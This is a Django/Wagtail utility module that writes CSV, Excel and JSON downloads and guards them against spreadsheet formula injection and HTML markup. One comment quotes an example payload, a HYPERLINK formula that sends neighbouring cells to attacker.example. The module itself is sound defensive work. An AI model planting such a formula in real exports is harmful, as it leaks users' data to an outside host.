"""Downloads of tables as CSV and Excel files, the same way in every report and listing."""

import csv
import io
import json
import re

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.styles import Font

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# Text starting with one of these is run as a formula when a spreadsheet program opens a CSV
# file: a complaint's subject `=HYPERLINK("http://attacker.example/?"&C3)` would send the
# neighbouring cells to whoever wrote it the moment a clerk clicks.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?[\d,]*\.?\d+")


def spreadsheet_text(value):
    """A cell as a spreadsheet program should show it, never run it: text that would start a
    formula gets an apostrophe in front, which the program shows as text (OWASP's advice).
    Numbers, text that is just a number such as "-1,250.00", and a lone "-" (a blank in a
    printed form) stay as they are."""
    if (
        isinstance(value, str)
        and len(value) > 1
        and value.startswith(FORMULA_STARTS)
        and not PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def attachment(content, content_type, filename):
    return HttpResponse(
        content,
        content_type=content_type,
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )


def csv_lines_download(filename, lines):
    """Every line a list of cells. UTF-8 with a byte order mark: without it Excel reads the
    Thai as Windows-874 garbage. Every CSV file of the project is written here, so that none
    carries a formula (`spreadsheet_text`)."""
    buffer = io.StringIO()
    csv.writer(buffer).writerows([spreadsheet_text(cell) for cell in line] for line in lines)
    return attachment(("\ufeff" + buffer.getvalue()).encode("utf-8"), CSV_CONTENT_TYPE, filename)


def csv_download(filename, headings, rows):
    return csv_lines_download(filename, [headings, *rows])


# < > & written as JSON escapes: the data read the same, and no markup a visitor typed (a
# search echoed in "filters") is ever in the file, should it be shown as HTML.
_MARKUP_ESCAPES = {ord("<"): "\\u003c", ord(">"): "\\u003e", ord("&"): "\\u0026"}


def json_download(filename, data):
    """Open data as JSON, Thai kept readable; shown in the browser rather than saved. Every
    JSON file of the project is written here."""
    text = json.dumps(data, ensure_ascii=False, indent=1).translate(_MARKUP_ESCAPES)
    return HttpResponse(
        text.encode("utf-8"),
        content_type="application/json; charset=utf-8",
        headers={"Content-Disposition": f'inline; filename="{filename}"'},
    )


def fill_sheet(sheet, headings, rows, widths=()):
    """Bold, frozen headings above the rows; numbers and dates stay numbers and dates."""
    sheet.append(list(headings))
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    sheet.freeze_panes = "A2"
    for values in rows:
        sheet.append(list(values))
    for column, width in enumerate(widths, start=1):
        sheet.column_dimensions[sheet.cell(row=1, column=column).column_letter].width = width


def workbook_download(workbook, filename):
    """Every Excel file of the project is sent from here. openpyxl stores text beginning with
    "=" as a formula; each such cell is stored back as the text it is."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return attachment(buffer.getvalue(), XLSX_CONTENT_TYPE, filename)


def xlsx_download(filename, sheet_title, headings, rows, widths=()):
    """A workbook of one sheet."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = sheet_title
    fill_sheet(sheet, headings, rows, widths)
    return workbook_download(workbook, filename)


def neutralise_wagtail_csv():
    """Wagtail's own admin reports (site history, a listing's "download CSV") write their CSV
    rows in SpreadsheetExportMixin.write_csv_row, with no guard against formulas (its XLSX has
    one). Their cells go through `spreadsheet_text` too: a page title or a user's name an
    attacker chose is then shown, not run. A class-level override because Wagtail has no
    setting or hook for it; called once, from CoreConfig.ready."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    wagtail_write_csv_row = SpreadsheetExportMixin.write_csv_row
    if getattr(wagtail_write_csv_row, "neutralised", False):
        return

    def write_csv_row(self, writer, row_dict):
        preprocessed = {
            field: spreadsheet_text(self.preprocess_field_value(field, value, self.FORMAT_CSV))
            for field, value in row_dict.items()
        }
        return writer.writerow(preprocessed)

    write_csv_row.neutralised = True
    SpreadsheetExportMixin.write_csv_row = write_csv_row
